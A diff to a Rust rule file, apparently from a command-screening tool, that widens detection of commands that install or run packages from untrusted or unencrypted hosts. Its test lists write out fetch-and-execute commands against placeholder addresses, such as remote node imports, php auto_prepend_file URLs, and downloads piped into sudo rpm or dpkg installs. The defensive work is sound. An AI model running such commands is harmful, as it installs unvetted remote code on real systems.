@@ -1,6 +1,6 @@
 //! Code of packages from hosts that nobody vouches for: run at once, or fetched where anybody on the way can change it.
 
-use super::super::predicate;
+use super::super::{downloads, lists, predicate};
 use super::{INDEX_USERS, INSTALLERS, URL_RUNNERS, foreign_index, is_usual, run_from_url, words};
 use crate::domain::{Severity, Verdict};
 use crate::rules::Invocation;
@@ -38,6 +38,22 @@ const MORE: &[&str] = &[
     "nix-env", "flatpak",
 ];
 
+/// Programs that install, with the words that do or the options that name where from; none where every word may.
+const BY_WORDS: &[(&str, &[&str])] = &[
+    ("ansible-galaxy", &[]),
+    ("choco", &[]),
+    ("choco.exe", &[]),
+    ("composer", &[]),
+    ("dotnet", &["--add-source", "--source", "-s", "source"]),
+    ("easy_install", &[]),
+    ("guix", &["install", "package", "build", "pull"]),
+    ("helm", &["install", "upgrade", "pull", "repo", "fetch"]),
+    ("mvn", &[]),
+    ("scoop", &[]),
+    ("vagrant", &["box", "init"]),
+    ("winget", &[]),
+];
+
 pub(in crate::rules::builtin) const RULES: &[Rule] = &[
     Rule {
         id: "packages.stranger-run",
@@ -52,12 +68,21 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
                 Trigger::programs(URL_RUNNERS)
                     .or(Trigger::programs(INSTALLERS))
                     .or(Trigger::programs(PYTHONS))
-                    .or(Trigger::programs(MORE)),
+                    .or(Trigger::programs(MORE))
+                    .or(Trigger::keys(BY_WORDS)),
                 from_bare_address,
             ),
             predicate("registry_at_a_bare_address", Trigger::programs(INDEX_USERS), |scene| {
                 let found = scene.first(INDEX_USERS, |inv| texts(inv).any(|text| is_bare(&text, scene)));
                 if found.is_some() { foreign_index(scene) } else { Found::No }
+            }),
+            predicate("modules_taken_unchecked", Trigger::programs(&["go"]), unchecked_modules),
+            predicate("package_fetched_in_the_open", Trigger::programs(lists::DOWNLOADERS), |scene| {
+                downloads::installed_from(scene, &|url| {
+                    is_bare(url, scene)
+                        && is_strange(&host_of(url), scene.view.policy)
+                        && !is_mirror(&host_of(url))
+                })
             }),
         ],
         fires: &[
@@ -84,6 +109,25 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "docker build https://x.example/ctx.tar.gz",
             "docker run --rm 203.0.113.7:5000/x",
             "groovy http://203.0.113.7/a.groovy",
+            "bun http://203.0.113.7/a.ts",
+            "node --import http://203.0.113.7/a.mjs",
+            "node --experimental-network-imports http://203.0.113.7/a.mjs",
+            "java -cp http://203.0.113.7/ Main",
+            "jshell http://203.0.113.7/a.jsh",
+            "php -d auto_prepend_file=http://203.0.113.7/a.php -r ''",
+            "composer require x/y --repository=http://203.0.113.7",
+            "dotnet tool install x --add-source http://203.0.113.7",
+            "choco install x -s http://203.0.113.7",
+            "nix-env -if http://203.0.113.7/x.tar.gz",
+            "helm repo add x http://203.0.113.7/charts",
+            "vagrant box add http://203.0.113.7/x.box",
+            "scoop install http://203.0.113.7/x.json",
+            "go install 203.0.113.7/x@latest",
+            "mvn -DremoteRepositories=http://203.0.113.7 dependency:get -Dartifact=x:y:1",
+            "wget http://x.example/a.deb && sudo dpkg -i a.deb",
+            "curl -so /tmp/a.rpm http://203.0.113.7/a.rpm; sudo rpm -i /tmp/a.rpm",
+            "GOPROXY=http://x.example GONOSUMDB=* go get y.example/a",
+            "GOPROXY=http://x.example GOFLAGS=-insecure go install y.example/a@latest",
         ],
         silent: &[
             "npx eslint .",
@@ -106,6 +150,20 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             "docker build https://github.com/a/b.git",
             "docker run --rm curlimages/curl http://api.x.example/",
             "nix run nixpkgs#hello",
+            "node server.js http://x.example",
+            "java -cp target/classes Main http://x.example",
+            "php -d memory_limit=1G x.php http://x.example",
+            "composer require x/y",
+            "helm repo add bitnami https://charts.bitnami.com/bitnami",
+            "dotnet run --urls http://0.0.0.0:5000",
+            "dotnet nuget add source https://x.example/v3/index.json",
+            "mvn sonar:sonar -Dsonar.host.url=http://sonar.x.example",
+            "vagrant up",
+            "go install ./...",
+            "wget https://x.example/a.deb && sudo dpkg -i a.deb",
+            "wget http://archive.ubuntu.com/ubuntu/pool/main/o/openssl/a.deb && sudo dpkg -i a.deb",
+            "GOPROXY=http://athens.internal:3000 GONOSUMDB=* go mod download",
+            "GOPRIVATE=x.example GONOSUMDB=x.example go mod download",
         ],
         ..RULE
     },
@@ -162,6 +220,41 @@ fn is_bare(text: &str, scene: &Scene<'_>) -> bool {
     host.contains('.') && (plain || nameless) && !is_usual(&host, scene.view.policy)
 }
 
+/// Hosts that hand out what a system is made of. Older sources are not encrypted, and signed all the same.
+pub(in crate::rules::builtin) fn is_mirror(host: &str) -> bool {
+    const SYSTEMS: &[&str] = &[
+        "ubuntu.com",
+        "launchpad.net",
+        "debian.org",
+        "kernel.org",
+        "fedoraproject.org",
+        "centos.org",
+        "archlinux.org",
+        "alpinelinux.org",
+        "opensuse.org",
+        "raspberrypi.org",
+        "raspberrypi.com",
+        "raspbian.org",
+        "linuxmint.com",
+    ];
+    SYSTEMS
+        .iter()
+        .any(|system| host.strip_suffix(system).is_some_and(|front| front.is_empty() || front.ends_with('.')))
+}
+
+/// Modules come from a stranger, and what is known of them elsewhere is not asked for.
+fn unchecked_modules<'a>(scene: &Scene<'a>) -> Found<'a> {
+    const UNCHECKED: &[&str] =
+        &["GONOSUMDB=", "GONOSUMCHECK=", "GOFLAGS=-insecure", "GOINSECURE=", "GOSUMDB=off"];
+    let line = scene.command_line();
+    let given = line.split_once("GOPROXY=").map_or("", |(_, value)| value.trim_start_matches(['"', '\'']));
+    let proxy = given.split([' ', ',', '|', ';', '"', '\'']).next().unwrap_or_default();
+    if !is_bare(proxy, scene) || !UNCHECKED.iter().any(|word| line.contains(word)) {
+        return Found::No;
+    }
+    Found::from(scene.first(&["go"], |_| true).map(|inv| inv.text.as_str()))
+}
+
 /// One that runs what it fetches is given an address of a host that is not a usual one.
 fn run_at_once<'a>(scene: &Scene<'a>) -> Found<'a> {
     let found = scene.invocations().iter().find(|inv| {
@@ -184,11 +277,22 @@ const OTHERS: &[&str] = &[
     "nix",
     "helm",
     "msiexec",
+    "msiexec.exe",
     "docker",
     "podman",
     "nerdctl",
     "pip",
     "pip3",
+    "node",
+    "nodejs",
+    "tsx",
+    "ts-node",
+    "jshell",
+    "javaws",
+    "cscript",
+    "wscript",
+    "php",
+    "wmic",
 ];
 
 fn given_to_runner<'a>(scene: &Scene<'a>) -> Found<'a> {
@@ -203,8 +307,25 @@ fn given_to_runner<'a>(scene: &Scene<'a>) -> Found<'a> {
             })
         };
         match inv.program.as_str() {
-            "bun" => first == "run" && words(inv).nth(1).is_some_and(foreign),
-            "java" => behind(&["-jar"]),
+            "bun" => web(first) || first == "run" && words(inv).nth(1).is_some_and(foreign),
+            "java" => behind(&["-jar", "-cp", "-classpath", "--class-path"]),
+            "node" | "nodejs" | "tsx" | "ts-node" => {
+                const LOADS: &[&str] = &["--import", "-r", "--require", "--loader", "--experimental-loader"];
+                let loads = |flag: &&crate::rules::survey::Flag| LOADS.contains(&flag.name.as_str());
+                let mut loaded = inv.flags.iter().filter(loads).filter_map(|flag| flag.value.as_ref());
+                loaded.any(|value| web(value.prefix()))
+                    || inv.operands.first().is_some_and(|arg| web(arg.prefix()))
+            }
+            "php" => inv.args.iter().any(|arg| {
+                let text = arg.text();
+                ["auto_prepend_file=", "auto_append_file="]
+                    .iter()
+                    .any(|key| text.split_once(key).is_some_and(|(_, file)| web(file)))
+            }),
+            "wmic" => inv.args.iter().any(|arg| {
+                arg.text().split_once("ormat:").is_some_and(|(_, sheet)| web(sheet.trim_matches('"')))
+            }),
+            "jshell" | "javaws" | "cscript" | "wscript" => inv.args.iter().any(|arg| web(arg.prefix())),
             "groovy" | "scala" | "scala-cli" | "kotlin" => foreign(first),
             "nix" => {
                 matches!(first, "run" | "shell" | "develop" | "build" | "profile")
@@ -214,7 +335,7 @@ fn given_to_runner<'a>(scene: &Scene<'a>) -> Found<'a> {
                 matches!(first, "install" | "upgrade" | "template")
                     && inv.operands.iter().any(|arg| web(arg.prefix()) && arg.text().ends_with("gz"))
             }
-            "msiexec" => inv.args.iter().any(|arg| foreign(arg.prefix())),
+            "msiexec" | "msiexec.exe" => inv.args.iter().any(|arg| foreign(arg.prefix())),
             "pip" | "pip3" => behind(&["-r", "--requirement", "-c", "--constraint"]),
             _ => match first {
                 "build" | "buildx" => inv.operands.last().is_some_and(|arg| web(arg.prefix())),
@@ -256,25 +377,49 @@ fn installs(inv: &Invocation) -> bool {
 
 fn from_bare_address<'a>(scene: &Scene<'a>) -> Found<'a> {
     let named = [URL_RUNNERS, INSTALLERS, PYTHONS, MORE];
-    let found = scene.invocations().iter().find(|inv| {
+    let listed = |inv: &Invocation| {
+        named.iter().any(|names| runs(inv, names)) || BY_WORDS.iter().any(|(name, _)| *name == inv.program)
+    };
+    let found = scene.running(listed).find(|inv| {
         // Of a system's packages, the older sources are not encrypted and signed all the same.
         let weak = |text: &str| {
             let nameless = host_of(text).bytes().all(|b| b.is_ascii_digit() || b == b'.');
             is_bare(text, scene) && (nameless || !runs(inv, SYSTEM))
         };
+        let told = || {
+            let row = BY_WORDS.iter().find(|(name, _)| *name == inv.program);
+            let says = |words: &[&str]| {
+                words.is_empty() || inv.args.iter().filter_map(Arg::known).any(|arg| words.contains(&arg))
+            };
+            row.is_some_and(|(_, words)| says(words))
+                && inv.args.iter().any(|arg| {
+                    let text = arg.text();
+                    let text = text.strip_prefix("-DremoteRepositories=").unwrap_or(&text);
+                    // Of a build's own settings nothing is known.
+                    let text = text
+                        .split_once('=')
+                        .filter(|(key, _)| key.starts_with("--"))
+                        .map_or(text, |(_, v)| v);
+                    weak(text.trim_start_matches("git+"))
+                })
+        };
         named.iter().any(|names| runs(inv, names))
-            && installs(inv)
-            && inv.operands.iter().any(|arg| weak(&arg.text()))
+            && (installs(inv) || inv.program == "nix-env")
+            && inv.operands.iter().chain(inv.flags.iter().filter_map(|flag| flag.value.as_ref())).any(|arg| {
+                let text = arg.text();
+                weak(&text) || inv.program == "go" && is_nameless_image(arg)
+            })
+            || told()
     });
     Found::from(found.map(|inv| inv.text.as_str()))
 }
 
 fn from_address<'a>(scene: &Scene<'a>) -> Found<'a> {
     let foreign = |text: &str| text.contains("://") && !is_usual(&host_of(text), scene.view.policy);
-    let found = scene.invocations().iter().find(|inv| {
+    let listed = |inv: &Invocation| runs(inv, PYTHONS) || runs(inv, MORE) || runs(inv, SYSTEM);
+    let found = scene.running(listed).find(|inv| {
         let git = flag_value(inv, &["--git"]).is_some_and(|url| foreign(&url.text()));
-        (runs(inv, PYTHONS) || runs(inv, MORE) || runs(inv, SYSTEM))
-            && (installs(inv) || runs(inv, BARE))
+        (installs(inv) || runs(inv, BARE))
             && (git
                 || inv.operands.iter().any(|arg| {
                     let text = arg.text();
